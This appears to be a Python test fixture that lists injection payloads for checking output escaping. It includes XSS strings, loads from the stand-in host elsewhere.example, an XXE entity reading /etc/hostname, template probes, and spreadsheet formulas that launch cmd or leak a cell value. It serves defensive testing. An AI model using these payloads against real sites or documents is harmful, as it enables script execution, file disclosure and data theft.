"""Texts that would become markup, script, a formula or a template wherever one escape were missing."""

from __future__ import annotations

HOSTILE = (
    "<script>steal()</script>",
    '</title><script src="//elsewhere.example/x.js"></script>',
    "</script><script>steal()</script>",
    '"><img src="x" onerror="steal()">',
    "' onmouseover='steal()' title='",
    '" autofocus onfocus="steal()',
    "x onclick=steal() tabindex=1",
    "`onload=steal()`",
    "</textarea><svg/onload=steal()>",
    "</option></select><details open ontoggle=steal()>",
    "<math><mtext></table><mglyph><style><img src=x onerror=steal()>",
    "--><iframe srcdoc='&lt;script&gt;steal()&lt;/script&gt;'></iframe><!--",
    '<a href="javascript:steal()">read</a>',
    '<a href="java&#115;cript:steal()">read</a>',
    "javascript:steal()//",
    '<style>@import "//elsewhere.example/x.css"</style>',
    '<meta http-equiv="refresh" content="0;url=//elsewhere.example">',
    '<base href="//elsewhere.example/">',
    '</form><form action="//elsewhere.example"><input name="csrf_token" value="x">',
    '<link rel="stylesheet" href="//elsewhere.example/x.css">',
    "&lt;script&gt;steal()&lt;/script&gt;",
    "&#60;img src=x onerror=steal()&#62;",
    "<![CDATA[<script>steal()</script>]]>",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>&b;',
    "{{ config }}{% include 'base.html' %}${7*7}#{7*7}",
    "%(name)s %s %d 100% %",
    '=HYPERLINK("//elsewhere.example?"&A1,"read")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '"],"x":{"y":"\\u003cscript\\u003esteal()\\u003c/script\\u003e',
    "＜script＞steal()＜/script＞",
    "\u202elmth.lortnoc\u202c <b>",
)
HARMLESS = "a harmless text"
